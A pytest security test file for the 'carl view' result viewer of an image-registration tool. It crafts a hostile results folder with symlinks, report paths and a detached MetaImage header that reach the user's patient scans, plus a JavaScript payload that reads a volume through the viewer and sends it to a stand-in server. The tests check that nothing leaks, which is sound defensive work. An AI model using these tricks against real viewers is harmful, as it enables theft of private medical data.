"""`carl view` of a folder that a stranger made: no file of the user leaves the machine."""

from __future__ import annotations

import http.server
import json
import os
import re
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import numpy as np
import pytest
from browser import chromium, needs_browser

import carlreg
from carlreg.cli import main

sitk = pytest.importorskip("SimpleITK")
SHAPE = (18, 20, 16)
NETWORK = {"unet_down": (4, 8, 8, 8, 8), "unet_up": (8, 8, 8, 8, 8)}


class Hostile:
    """A folder of results as a stranger may send it, the user's files outside it, and `carl view` showing it."""

    def __init__(self, home: Path) -> None:
        self.home, self.folder = home, home / "downloads" / "result"
        self.secrets = {
            name: np.random.default_rng(n).integers(0, 99, SHAPE, np.int16) for n, name in enumerate("abcde")
        }
        self.url = ""

    def secret(self, name: str) -> Path:
        """A scan or label map of the user."""
        path = self.home / "patients" / f"{name}.nii.gz"
        path.parent.mkdir(exist_ok=True)
        sitk.WriteImage(sitk.GetImageFromArray(np.ascontiguousarray(self.secrets[name].T)), str(path))
        return path

    def get(self, path: str) -> Any:
        return urllib.request.urlopen(urljoin(self.url, path), timeout=30)

    def leaks(self, name: str) -> list[str]:
        """The volumes that the server gives out and that hold the user's file."""
        scene = json.loads(self.get("scene.json").read())
        voxels = self.secrets[name].tobytes(order="F")
        return [volume for volume in scene["volumes"] if voxels in self.get(f"{volume}.nii").read()]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """The folder names the user's scan, links to another, and has headers whose voxels are in files of the user."""
    one = Hostile(tmp_path_factory.mktemp("home"))
    _register(one.home, one.folder)
    (one.home / "e.raw").write_bytes(one.secrets["e"].tobytes(order="F"))
    (one.folder / "moving.mhd").write_text(_detached(one.home / "e.raw"), encoding="ascii")
    (one.folder / "fixed_labels.nii.gz").symlink_to(one.secret("c"))
    report = json.loads((one.folder / "report.json").read_text(encoding="utf-8"))
    report["inputs"] = {
        "fixed": {"path": str(one.secret("a"))},
        "moving": {"path": str(one.folder / "moving.mhd")},
        "moving_seg": {"path": str(one.secret("b")), "sha256": "0" * 64},
    }
    (one.folder / "report.json").write_text(json.dumps(report), encoding="utf-8")
    (one.folder / "report.html").write_text("<p>The report of a stranger.</p>", encoding="utf-8")
    command = [sys.executable, "-m", "carlreg", "view", str(one.folder), "--no-browser"]
    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True) as process:
        assert process.stderr is not None
        try:
            for line in process.stderr:
                if address := re.search(r"http://127\.0\.0\.1:\d+/\S+/", line):
                    one.url = address[0]
                    break
            yield one
        finally:
            process.kill()


def _register(home: Path, out: Path) -> None:
    """A result as the stranger got it from `carl register`."""
    carlreg.save(carlreg.gradicon(3, 2, **NETWORK), home / "net.safetensors", metadata={"grid": "16 16 16"})
    index = np.indices(SHAPE).astype(np.float32)
    for n, name in enumerate(("fixed", "moving")):
        image = np.sin(index[0] / 3 + n) + np.cos(index[1] / 4) * np.sin(index[2] / 3)
        sitk.WriteImage(sitk.GetImageFromArray(np.ascontiguousarray(image.T)), str(home / f"{name}.nii"))
    words = ["register", "-f", home / "fixed.nii", "-m", home / "moving.nii", "-o", out, "--no-html", "--quiet"]
    assert main([str(word) for word in (*words, "--model", home / "net.safetensors", "--io-iterations", 0)]) == 0
    for name in ("fixed", "moving"):
        (home / f"{name}.nii").unlink()


def _detached(voxels: Path) -> str:
    """The header of a MetaImage whose voxels are in another file."""
    size = " ".join(map(str, SHAPE))
    return f"ObjectType = Image\nNDims = 3\nDimSize = {size}\nElementType = MET_SHORT\nElementDataFile = {voxels}\n"


def test_a_path_in_the_report_is_not_followed_without_a_checksum(hostile: Hostile) -> None:
    assert hostile.leaks("a") == []


def test_a_path_in_the_report_is_not_followed_with_a_wrong_checksum(hostile: Hostile) -> None:
    assert hostile.leaks("b") == []


@pytest.mark.skipif(os.name == "nt", reason="needs symbolic links")
def test_a_link_out_of_the_folder_is_not_followed(hostile: Hostile) -> None:
    assert hostile.leaks("c") == []


def test_voxels_outside_the_folder_are_not_read(hostile: Hostile) -> None:
    assert hostile.leaks("e") == []


def _report_url(hostile: Hostile) -> str:
    link = json.loads(hostile.get("scene.json").read())["report"]
    return urljoin(hostile.url, link if isinstance(link, str) else "report.html")


def test_the_report_gets_an_origin_of_its_own(hostile: Hostile) -> None:
    with hostile.get(_report_url(hostile)) as answer:
        policy = [words.split() for words in answer.headers["Content-Security-Policy"].split(";")]
    assert ["sandbox", "allow-scripts"] in policy
    for origin in ("null", "http://example.org"):  # what a browser says where its script asks for something
        request = urllib.request.Request(urljoin(hostile.url, "scene.json"), headers={"Origin": origin})
        with pytest.raises(urllib.error.HTTPError, match="403"):
            urllib.request.urlopen(request)


def test_the_report_does_not_know_the_viewers_address(hostile: Hostile) -> None:
    secret = urlsplit(hostile.url).path.strip("/")
    assert secret not in _report_url(hostile)


ATTACK = """<!doctype html><title>waiting</title><script>
const base = "VIEWER";
onclick = async () => {
  let loot = "nothing";
  try {
    const viewer = window.open(base);
    await new Promise((done) => setTimeout(done, 1500));
    const answer = await (viewer || window).fetch(base + "warped.nii");
    loot = "voxels-" + (await answer.arrayBuffer()).byteLength;
  } catch (error) { document.title = String(error); }
  location = "STRANGER?" + loot;
};
document.title = "ready";
</script><body style="height: 100vh">Click here."""


@pytest.mark.browser
@needs_browser
def test_a_click_on_the_report_sends_nothing_away(hostile: Hostile) -> None:
    """The report opens the viewer, whose address it even knows, reads a volume through it and takes the bytes away."""
    received: list[str] = []

    class Stranger(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            received.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as stranger, chromium() as page:
        threading.Thread(target=stranger.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{stranger.server_port}/"
        (hostile.folder / "report.html").write_text(
            ATTACK.replace("STRANGER", address).replace("VIEWER", hostile.url), encoding="utf-8"
        )
        page.open(_report_url(hostile))
        page.wait("document.title === 'ready'")  # its script does run
        page.click(100, 100)
        end = time.monotonic() + 20
        while not any("?" in path for path in received) and time.monotonic() < end:
            time.sleep(0.1)
        stranger.shutdown()
    assert [path for path in received if "?" in path] == ["/?nothing"]
